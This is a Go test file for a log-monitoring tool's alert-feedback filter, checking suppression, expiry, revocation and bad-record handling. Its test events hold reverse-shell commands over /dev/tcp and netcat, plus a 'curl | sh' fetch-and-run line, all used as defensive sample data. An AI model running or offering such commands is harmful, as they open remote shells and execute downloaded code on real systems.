package feedback

import (
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/logwarden/logwarden/pkg/kafkax"
	"github.com/logwarden/logwarden/pkg/logwardenpb"
)

var t0 = time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)

func cmdEvent(user, host, cmd string) *logwardenpb.LogEvent {
	return &logwardenpb.LogEvent{User: user, Host: host, Action: "command", Target: cmd, Raw: user + " executed command '" + cmd + "'"}
}

func alertOn(rule string, ev *logwardenpb.LogEvent) *logwardenpb.Alert {
	return &logwardenpb.Alert{Id: "a", Entity: ev.GetUser(), Findings: []*logwardenpb.Finding{{Detector: "rules", RuleId: rule}},
		Evidence: []*logwardenpb.LogEvent{{Raw: "older"}, ev}}
}

func notAnIssue(id, rule string, ev *logwardenpb.LogEvent, at time.Time, d time.Duration) *logwardenpb.Feedback {
	return &logwardenpb.Feedback{Id: id, Kind: logwardenpb.FeedbackKind_FEEDBACK_KIND_NOT_AN_ISSUE, Detector: "rules", RuleId: rule,
		Entity: ev.GetUser(), Event: ev, CreatedBy: "@alice (U0ALICE)", CreatedAt: timestamppb.New(at), ExpiresAt: timestamppb.New(at.Add(d))}
}

func record(t *testing.T, fb *logwardenpb.Feedback) kafkax.Message {
	t.Helper()
	m, err := kafkax.NewProtoMessage("feedback", fb.GetRuleId()+"/"+fb.GetEntity(), fb.GetId(), fb)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// "Not an issue" on alice's reverse shell accepts alice running commands of that shape
// for that rule, until it expires or is revoked; bob running the same command, alice
// running another shape, or another rule still alert.
func TestAcceptedCommands(t *testing.T) {
	s := NewSet(nil)
	counts := map[string]int{}
	s.OnRecord = func(k string) { counts[k]++ }
	shell := "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"
	s.Apply(record(t, notAnIssue("f1", "reverse-shell", cmdEvent("alice", "web1", shell), t0, 30*24*time.Hour)))
	s.Apply(record(t, notAnIssue("f1", "reverse-shell", cmdEvent("alice", "web1", shell), t0, 30*24*time.Hour))) // redelivered
	at := t0.Add(time.Hour)
	for _, tt := range []struct {
		name string
		a    *logwardenpb.Alert
		want bool
	}{
		{"same user, same shape, other host and target", alertOn("reverse-shell", cmdEvent("alice", "web2", "bash -i >& /dev/tcp/192.168.7.7/80 0>&1")), true},
		{"another user, same command", alertOn("reverse-shell", cmdEvent("bob", "web1", shell)), false},
		{"same user, another shape", alertOn("reverse-shell", cmdEvent("alice", "web1", "nc -e /bin/sh 10.0.0.9 4444")), false},
		{"same user and command, another rule", alertOn("other-rule", cmdEvent("alice", "web1", shell)), false},
	} {
		if _, got := s.Accepted(tt.a, at); got != tt.want {
			t.Errorf("%s: accepted %v, want %v", tt.name, got, tt.want)
		}
	}
	alice := alertOn("reverse-shell", cmdEvent("alice", "web1", shell))
	if _, ok := s.Accepted(alice, t0.Add(31*24*time.Hour)); ok {
		t.Error("accepted after it expired")
	}
	if s.Active(at) != 1 || len(s.List()) != 1 || counts["not_an_issue"] != 2 {
		t.Fatalf("active %d, listed %d, counts %v", s.Active(at), len(s.List()), counts)
	}
	s.Apply(record(t, &logwardenpb.Feedback{Id: "r1", Kind: logwardenpb.FeedbackKind_FEEDBACK_KIND_REVOKED, Revokes: "f1", RuleId: "reverse-shell",
		Entity: "alice", CreatedBy: "ops", CreatedAt: timestamppb.New(at)}))
	if _, ok := s.Accepted(alice, at); ok {
		t.Error("accepted after it was revoked")
	}
	if a, _ := s.Get("f1"); a.State(at) != "revoked" || a.RevokedBy != "ops" {
		t.Fatalf("state %s by %q", a.State(at), a.RevokedBy)
	}
}

// A line that is not a command is accepted as its template on its host.
func TestAcceptedTemplates(t *testing.T) {
	s := NewSet(nil)
	ev := &logwardenpb.LogEvent{Host: "db1", Raw: "Nov 24 09:00:01 db1 kernel: EXT4-fs error (device sda1): bad block 12345"}
	s.Apply(record(t, notAnIssue("f2", "new-template", ev, t0, time.Hour)))
	same := &logwardenpb.LogEvent{Host: "db1", Raw: "Nov 24 09:10:07 db1 kernel: EXT4-fs error (device sda3): bad block 999"}
	other := &logwardenpb.LogEvent{Host: "db2", Raw: same.GetRaw()}
	if _, ok := s.Accepted(alertOn("new-template", same), t0.Add(time.Minute)); !ok {
		t.Error("the same kind of line on the same host alerts")
	}
	if _, ok := s.Accepted(alertOn("new-template", other), t0.Add(time.Minute)); ok {
		t.Error("the same kind of line on another host is accepted")
	}
}

// A revocation that arrives before its feedback (another partition order, a replay)
// still revokes it; bad records are skipped and counted.
func TestRevokedFirstAndBadRecords(t *testing.T) {
	s := NewSet(nil)
	counts := map[string]int{}
	s.OnRecord = func(k string) { counts[k]++ }
	s.Apply(record(t, &logwardenpb.Feedback{Id: "r", Kind: logwardenpb.FeedbackKind_FEEDBACK_KIND_REVOKED, Revokes: "f", CreatedAt: timestamppb.New(t0)}))
	ev := cmdEvent("alice", "web1", "id")
	s.Apply(record(t, notAnIssue("f", "x", ev, t0, time.Hour)))
	if _, ok := s.Accepted(alertOn("x", ev), t0); ok {
		t.Error("revoked before it arrived, still accepted")
	}
	s.Apply(kafkax.Message{Value: []byte("\xff\xff")})
	s.Apply(record(t, &logwardenpb.Feedback{Id: "n", Kind: logwardenpb.FeedbackKind_FEEDBACK_KIND_NOT_AN_ISSUE})) // no rule, no event
	wrong, _ := kafkax.NewProtoMessage("feedback", "k", "id", &logwardenpb.Alert{Id: "a"})
	s.Apply(wrong)
	s.Apply(record(t, &logwardenpb.Feedback{Id: "ack", Kind: logwardenpb.FeedbackKind_FEEDBACK_KIND_ACKNOWLEDGED}))
	if counts["invalid"] != 3 || counts["acknowledged"] != 1 || len(s.List()) != 1 {
		t.Fatalf("counts %v, %d acceptances", counts, len(s.List()))
	}
}

// BenchmarkAccepted is the cost the filter adds to an alert with 1,000 acceptances
// held (alerts are rare next to events; this is per alert, not per event).
func BenchmarkAccepted(b *testing.B) {
	s := NewSet(nil)
	for i := range 1000 {
		ev := cmdEvent("user"+string(rune('a'+i%26))+string(rune('a'+i/26%26)), "web1", "curl -s http://x/"+string(rune('a'+i%26))+" | sh")
		s.ApplyFeedback(notAnIssue("f"+ev.GetUser()+string(rune(i)), "r", ev, t0, time.Hour))
	}
	a := alertOn("r", cmdEvent("nobody", "web1", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"))
	b.ReportAllocs()
	for b.Loop() {
		s.Accepted(a, t0)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "alerts/s")
}
